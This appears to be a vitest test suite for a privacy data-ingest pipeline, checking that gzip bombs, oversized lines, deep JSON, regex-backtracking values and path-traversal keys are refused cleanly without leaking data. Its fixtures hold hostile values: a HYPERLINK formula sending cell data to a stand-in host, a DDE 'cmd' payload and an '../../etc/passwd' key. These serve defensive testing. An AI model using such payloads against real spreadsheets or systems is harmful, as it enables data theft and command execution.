/**
 * Hostile input end to end: the committed corpus in test/fixtures/hostile (small files) and
 * generated big ones (a gzip bomb, 10,000 columns, a 20 MB line, a 100 MB line), through the CLI
 * in process, the Lambda handler's key parsing and the decoder. Each gets a clear error naming
 * the file and the rule, a quarantine entry where one applies, no stack trace, and no value of
 * the file in any output.
 */
import { spawn } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../functions/cli/main.ts';
import { decodeTable } from '../../functions/core/codecs/decode-table.ts';
import { InvalidFileError } from '../../functions/core/errors.ts';
import type { RunRecord } from '../../functions/core/lineage/run-record.ts';
import { ingestObject } from '../../functions/core/pipeline/ingest-object.ts';
import { type MetricsSink, processUpload } from '../../functions/handlers/process-upload.ts';
import { runCli, tempDir } from '../support/cli.ts';
import { encodeS3EventKey } from '../support/emulators.ts';
import { drop, localHome, readText } from '../support/local-home.ts';

const FIXTURES = new URL('../fixtures/hostile/', import.meta.url).pathname;
/** Planted in the hostile fixtures: it must never come out. */
const VICTIM = 'victim.person@example.com';
const STACK = /^\s+at /m;

interface Case {
  readonly file: string;
  /** Generated in the test (big files are not committed). */
  readonly body?: () => Buffer | string;
  readonly status: 'QUARANTINED' | 'COMPLETE';
  readonly rule?: string;
  readonly published?: number;
  readonly quarantinedRows?: number;
}

const CASES: readonly Case[] = [
  { file: 'invalid-utf8.csv', status: 'QUARANTINED', rule: 'encoding' },
  { file: 'nul-bytes.csv', status: 'QUARANTINED', rule: 'binary' },
  { file: 'utf16.csv', status: 'QUARANTINED', rule: 'encoding' },
  { file: 'duplicate-headers.csv', status: 'QUARANTINED', rule: 'header-duplicate' },
  { file: 'empty.csv', status: 'QUARANTINED', rule: 'empty-file' },
  { file: 'header-only.csv', status: 'QUARANTINED', rule: 'no-rows' },
  { file: 'headerless.csv', status: 'QUARANTINED', rule: 'header-looks-like-data' },
  { file: 'deeply-nested.jsonl', status: 'COMPLETE', published: 25, quarantinedRows: 1, rule: 'json-too-deep' },
  { file: 'mixed-line-endings.csv', status: 'COMPLETE', published: 4, quarantinedRows: 0 },
  { file: 'formula-injection.csv', status: 'COMPLETE', published: 9, quarantinedRows: 0 },
  {
    // 40 MB of text in ~40 KB: past the 10 MiB grace the ratio limit (200) stops it.
    file: 'bomb.csv.gz',
    body: () => gzipSync(`customer_id,email\n${`1,${'x'.repeat(4000)}\n`.repeat(10_000)}`),
    status: 'QUARANTINED',
    rule: 'compression-ratio',
  },
  {
    file: 'wide.csv',
    body: () => {
      const header = Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',');
      return `${header}\n${Array.from({ length: 10_000 }, (_, i) => (i === 7 ? VICTIM : String(i))).join(',')}\n`;
    },
    status: 'QUARANTINED',
    rule: 'too-many-columns',
  },
  {
    // One 20 MB record (an unclosed quote, or no line breaks at all): beyond the 16 MiB record limit.
    file: 'long-line.csv',
    body: () => `customer_id,email\nC1,${VICTIM}\nC2,"${'x'.repeat(20 * 1024 * 1024)}\n`,
    status: 'QUARANTINED',
    rule: 'record-too-long',
  },
];

const stem = (file: string) => file.split('.')[0] as string;

describe('hostile files through the CLI', () => {
  let dir: Awaited<ReturnType<typeof tempDir>>;
  let home: string;
  beforeAll(async () => {
    dir = await tempDir();
    home = join(dir.path, 'home');
  });
  afterAll(() => dir[Symbol.asyncDispose]());

  it.each(CASES)('$file: $status with rule $rule, no stack trace, no value in any output', async (c) => {
    const path = join(dir.path, c.file);
    await writeFile(path, c.body ? c.body() : await readFile(join(FIXTURES, c.file)));
    const res = await runCli(['--home', home, 'run', c.file, '--json'], { cwd: dir.path });
    expect(res.stderr).not.toMatch(STACK);
    const [record] = JSON.parse(res.stdout) as (RunRecord & { file: string })[];
    if (!record) throw new Error(`no record: ${res.stderr}`);
    expect(record.status).toBe(c.status);
    expect(record.counts.conserved).toBe(true);
    const key = `${stem(c.file)}/${c.file}`;
    if (c.status === 'QUARANTINED') {
      expect(res.code).toBe(1);
      expect(record.error?.rule).toBe(c.rule);
      expect(record.error?.message).toContain(key);
      expect(record.counts.rowsPublished).toBe(0);
      expect(record.outputs.map((o) => o.role)).toEqual(['quarantine-file', 'quarantine-report']);
    } else {
      expect(res.code).toBe(c.quarantinedRows ? 1 : 0);
      expect(record.counts).toMatchObject({ rowsPublished: c.published, rowsQuarantined: c.quarantinedRows });
      if (c.rule) expect(Object.keys(record.quarantineReasons)).toEqual([c.rule]);
    }
    // The readable summary names the file and the rule too.
    const human = await runCli(['--home', join(dir.path, 'human'), 'run', c.file], { cwd: dir.path });
    expect(human.stderr).not.toMatch(STACK);
    expect(human.stdout).toContain(c.file);
    if (c.rule) expect(human.stdout).toContain(c.rule);
    const lineage = await runCli(['--home', home, 'lineage', stem(c.file), '--json'], { cwd: dir.path });
    expect(lineage.code).toBe(0);
    for (const out of [res.stdout, res.stderr, human.stdout, human.stderr, lineage.stdout, lineage.stderr]) {
      expect(out).not.toContain(VICTIM);
    }
  });

  it('formula cells come out neutralised, line breaks inside quoted fields come out as they went in', async () => {
    const formulas = await runCli(['--home', home, 'read', 'formula-injection', '--format', 'csv'], { cwd: dir.path });
    expect(formulas.code).toBe(0);
    const notes = formulas.stdout
      .trim()
      .split('\n')
      .slice(1)
      .map((l) => l.slice(l.indexOf(',', l.indexOf(',') + 1) + 1).replace(/^"/, ''));
    expect(notes).toHaveLength(9);
    for (const n of notes) expect(n === '-12.5' || !/^[=+\-@\t\r]/.test(n), n).toBe(true);
    expect(notes.filter((n) => n.startsWith("'"))).toHaveLength(8);
    const mixed = await runCli(['--home', home, 'read', 'mixed-line-endings', '--format', 'jsonl'], { cwd: dir.path });
    const rows = mixed.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { note: string });
    expect(rows.map((r) => r.note)).toEqual(['plain', 'two\r\nlines', 'cr\rinside', 'last']);
  });

  it('formulas from a Parquet source (published without neutralisation) are neutralised when read as CSV', async () => {
    const note = ['=HYPERLINK("http://evil.example/?d="&A1)', "+cmd|' /C calc'!A0", '@SUM(A1)', "'=already", 'fine', '-3.5'];
    const buffer = parquetWriteBuffer({
      columnData: [
        { name: 'order_id', data: note.map((_, i) => `O${i}`), type: 'STRING' },
        { name: 'note', data: note, type: 'STRING' },
      ],
    });
    await writeFile(join(dir.path, 'pq-orders.parquet'), new Uint8Array(buffer));
    expect((await runCli(['--home', home, 'run', 'pq-orders.parquet'], { cwd: dir.path })).code).toBe(0);
    const csv = await runCli(['--home', home, 'read', 'pq-orders', '--format', 'csv'], { cwd: dir.path });
    expect(csv.code).toBe(0);
    const cells = csv.stdout
      .trim()
      .split('\n')
      .slice(1)
      .map((l) => l.slice(l.indexOf(',') + 1).replace(/^"/, ''));
    expect(cells.map((c) => c.slice(0, 2))).toEqual(["'=", "'+", "'@", "'=", 'fi', '-3']);
  });

  it('a reader that closes the pipe early (read … | head) ends the command quietly, in process and as a real process', async () => {
    let writes = 0;
    const closed = new Writable({
      write(_chunk, _enc, cb) {
        if (++writes > 1) cb(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' }));
        else cb();
      },
    });
    const stderr = new Writable({ write: (chunk, _enc, cb) => cb(new Error(`unexpected stderr: ${String(chunk)}`)) });
    const big = `id,note\n${Array.from({ length: 20_000 }, (_, i) => `${i},n${i}`).join('\n')}\n`;
    await writeFile(join(dir.path, 'piped.csv'), big);
    expect((await runCli(['--home', home, 'run', 'piped.csv'], { cwd: dir.path })).code).toBe(0);
    expect(await main(['--home', home, 'read', 'piped'], { stdout: closed, stderr, cwd: dir.path, env: { NO_COLOR: '1' } })).toBe(0);
    // The real entry: the pipe is closed after the first chunk, as `head -1` does.
    const bin = new URL('../../bin/privacy-pipeline.mjs', import.meta.url).pathname;
    const child = spawn(process.execPath, [bin, '--home', home, 'read', 'piped'], { cwd: dir.path, stdio: ['ignore', 'pipe', 'pipe'] });
    let err = '';
    child.stderr.setEncoding('utf8').on('data', (t: string) => {
      err += t;
    });
    child.stdout.once('data', () => child.stdout.destroy());
    const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
    expect(err).not.toMatch(STACK);
    expect(err).not.toContain('internal error');
    expect(code).toBe(0);
  });

  it('scan refuses a headerless file without printing its first record', async () => {
    await writeFile(join(dir.path, 'headerless.csv'), await readFile(join(FIXTURES, 'headerless.csv')));
    for (const args of [
      ['scan', 'headerless.csv'],
      ['scan', 'headerless.csv', '--json'],
      ['contract', 'infer', 'headerless.csv'],
    ]) {
      const res = await runCli(['--home', home, ...args], { cwd: dir.path });
      expect(res.code).toBe(1);
      expect(res.stderr).toContain('header-looks-like-data');
      expect(res.stderr).not.toMatch(STACK);
      expect(`${res.stdout}${res.stderr}`).not.toContain(VICTIM);
    }
  });
});

describe('hostile bodies at the decoder', () => {
  /** A body of `total` bytes of one line, generated lazily; counts what the decoder pulled. */
  function oneLine(prefix: string, total: number) {
    let pulled = 0;
    const chunk = Buffer.alloc(1024 * 1024, 'a');
    async function* body() {
      const head = Buffer.from(prefix);
      pulled += head.length;
      yield head;
      while (pulled < total) {
        pulled += chunk.length;
        yield chunk;
      }
    }
    return { body: body(), pulled: () => pulled };
  }

  it.each([
    ['a 100 MB CSV header line', 'csv', ''],
    ['a 100 MB CSV record after the header', 'csv', 'id,name\n1,'],
    ['a 100 MB JSON line', 'jsonl', '{"id":"'],
  ] as const)('%s is refused after reading about the record limit, not the whole line', async (_name, format, prefix) => {
    const line = oneLine(prefix, 100 * 1024 * 1024);
    const fileName = `big.${format}`;
    const error = await (async () => {
      const table = await decodeTable(line.body, { fileName, format });
      for await (const _ of table.rows) {
        // drain
      }
    })().catch((err: unknown) => err);
    expect(error).toBeInstanceOf(InvalidFileError);
    expect((error as InvalidFileError).context).toMatchObject({ file: fileName, rule: 'record-too-long' });
    // Memory stays bounded: the decoder stopped near the 16 MiB record limit, far from 100 MB.
    expect(line.pulled()).toBeLessThan(24 * 1024 * 1024);
  });

  it('a gzip stream inflating beyond the size limit is refused by rule, whatever its ratio', async () => {
    const text = Buffer.from(`id,v\n${Array.from({ length: 200_000 }, (_, i) => `${i},${(i * 7919) % 1000}`).join('\n')}\n`);
    const gz = gzipSync(text);
    async function* body() {
      yield gz;
    }
    const error = await (async () => {
      const table = await decodeTable(body(), { fileName: 'x.csv.gz', limits: { maxDecompressedBytes: 512 * 1024 } });
      for await (const _ of table.rows) {
        // drain
      }
    })().catch((err: unknown) => err);
    expect(error).toBeInstanceOf(InvalidFileError);
    expect((error as InvalidFileError).context.rule).toBe('decompressed-too-large');
  });

  it('JSON nested 100,000 levels deep is one bad row, not a stack overflow', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    async function* body() {
      yield Buffer.from(`{"id":"1","v":"ok"}\n{"id":"2","v":${deep}}\n{"id":"3","v":"ok"}\n`);
    }
    const table = await decodeTable(body(), { fileName: 'deep.jsonl' });
    const issues: (string | undefined)[] = [];
    for await (const row of table.rows) issues.push(row.issue?.rule);
    expect(issues).toEqual([undefined, 'json-too-deep', undefined]);
  });
});

describe('hostile values at ingest', () => {
  it('a value built to make a contract pattern backtrack fails the pattern rule instead of stalling the run', async () => {
    await using home = await localHome();
    const contract = {
      source: 'hostile.yaml',
      text: [
        'dataset: codes',
        'maxInvalidRowShare: 0.5',
        'columns:',
        '  - { name: id }',
        '  - { name: code, pattern: "^\\\\d+-?\\\\d+$" }',
      ].join('\n'),
    };
    // `^\d+-?\d+$` is quadratic on a run of digits that does not match at the end.
    const evil = `${'1'.repeat(1024 * 1024 - 2)}x`;
    await drop(home.ports, 'codes/a.csv', `id,code\n1,12-34\n2,${evil}\n3,5678\n`);
    const { record } = await ingestObject(home.ports, { key: 'codes/a.csv', contract });
    expect(record.counts).toMatchObject({ rowsIn: 3, rowsPublished: 2, rowsQuarantined: 1, conserved: true });
    expect(record.quarantineReasons).toEqual({ pattern: 1 });
    const report = await readText(home.ports, 'quarantine', record.outputs.find((o) => o.role === 'quarantine-report')?.key ?? '');
    expect(report).toContain('too long to check against the pattern');
    expect(report).not.toContain('1111111111');
  });

  it('a dataset prefix with no contract is ingested under an inferred contract recorded in lineage', async () => {
    await using home = await localHome();
    await drop(home.ports, 'fresh/a.csv', 'ref,email,amount\nR1,a@example.com,3\nR2,b@example.com,4\n');
    const { record } = await ingestObject(home.ports, { key: 'fresh/a.csv' });
    expect(record.status).toBe('COMPLETE');
    expect(record.contract).toMatchObject({ inferred: true, source: 'inferred' });
    expect(JSON.stringify(record)).not.toContain('a@example.com');
  });
});

describe('hostile object keys through the Lambda handler and ingest', () => {
  const BUCKET = 'ingest-bucket';
  /** An SQS message as S3 sends it: the key URL-encoded, '+' for spaces. */
  const message = (encodedKey: string, bucket = BUCKET) => ({
    messageId: `m-${encodedKey.length}-${Math.random().toString(36).slice(2)}`,
    receiptHandle: 'rh',
    body: JSON.stringify({
      Records: [
        {
          eventSource: 'aws:s3',
          eventName: 'ObjectCreated:Put',
          s3: { bucket: { name: bucket }, object: { key: encodedKey, size: 1, eTag: 'e' } },
        },
      ],
    }),
    attributes: { ApproximateReceiveCount: '1', SentTimestamp: '0', SenderId: 'S3', ApproximateFirstReceiveTimestamp: '0' },
    messageAttributes: {},
    md5OfBody: '',
    eventSource: 'aws:sqs',
    eventSourceARN: 'arn:aws:sqs:eu-west-1:111111111111:uploads',
    awsRegion: 'eu-west-1',
  });

  // `key` is the object's real key (the event carries it encoded as S3 encodes it); `event` is a raw event key.
  it.each([
    ['a unicode key with spaces and a plus', { key: 'people/Zoë Ünïcødé 日本 export+final.csv' }, 'processed'],
    ['percent signs and dots that are part of the key', { key: 'people/100% sure %2e%2e.csv' }, 'processed'],
    ['a ../ segment', { key: 'people/../../etc/passwd.csv' }, 'rejected'],
    ['a ../ segment sent URL-encoded', { event: 'people/%2E%2E/%2E%2E/x.csv' }, 'rejected'],
    ['a NUL byte', { event: 'people/a%00b.csv' }, 'rejected'],
    ['an absolute path', { key: '/people/x.csv' }, 'rejected'],
    ['no dataset prefix', { key: 'x.csv' }, 'rejected'],
    ['an upper-case dataset', { key: 'People/x.csv' }, 'rejected'],
    ['a key longer than 1024 characters', { key: `people/${'a'.repeat(1100)}.csv` }, 'rejected'],
    ['malformed URL encoding', { event: 'people/%E0%A4%A.csv' }, 'skipped'],
    ['a reserved (contract) key', { key: '_contracts/people.contract.yaml' }, 'skipped'],
    ['a folder marker', { key: 'people/' }, 'skipped'],
  ] as const)('%s', async (_name, k: { key?: string; event?: string }, outcome) => {
    await using home = await localHome();
    const lines: string[] = [];
    const log = (m: string, f?: Record<string, unknown>) => lines.push(JSON.stringify({ m, ...f }));
    const ports = { ...home.ports, logger: { debug: log, info: log, warn: log, error: log } };
    const metrics: string[] = [];
    const sink: MetricsSink = { addMetric: (name) => metrics.push(name), publishStoredMetrics: () => {} };
    if (outcome === 'processed' && k.key) await drop(home.ports, k.key, `id,email\n1,${VICTIM}\n2,b@example.com\n`);
    const encoded = k.event ?? encodeS3EventKey(k.key ?? '');
    const response = await processUpload({ ports, ingestBucketName: BUCKET, metrics: sink }, { Records: [message(encoded)] });
    // Permanent problems are never retried; nothing here is transient.
    expect(response).toEqual({ batchItemFailures: [] });
    const runs: RunRecord[] = [];
    for await (const r of home.ports.lineage.list({ kind: 'run' })) runs.push(r as unknown as RunRecord);
    if (outcome === 'processed') {
      expect(runs.map((r) => [r.status, r.input.key])).toEqual([['COMPLETE', k.key]]);
      expect(metrics).toContain('FilesProcessed');
    } else {
      expect(runs).toEqual([]);
      expect(metrics).toEqual(outcome === 'rejected' ? ['FilesRejected'] : []);
    }
    // Keys are logged as hashes: no part of a file name (people put names in them) in a log line.
    const logged = lines.join('\n');
    for (const part of ['Zoë', 'Ünïcødé', '日本', 'passwd', VICTIM]) expect(logged).not.toContain(part);
    expect(logged).not.toMatch(STACK);
  });

  it('an empty object is quarantined with its rule; the message succeeds', async () => {
    await using home = await localHome();
    await drop(home.ports, 'people/empty.csv', '');
    const sink: MetricsSink = { addMetric: () => {}, publishStoredMetrics: () => {} };
    const response = await processUpload(
      { ports: home.ports, ingestBucketName: BUCKET, metrics: sink },
      { Records: [message('people/empty.csv')] },
    );
    expect(response).toEqual({ batchItemFailures: [] });
    const runs: RunRecord[] = [];
    for await (const r of home.ports.lineage.list({ kind: 'run' })) runs.push(r as unknown as RunRecord);
    expect(runs.map((r) => [r.status, r.error?.rule])).toEqual([['QUARANTINED', 'empty-file']]);
  });
});
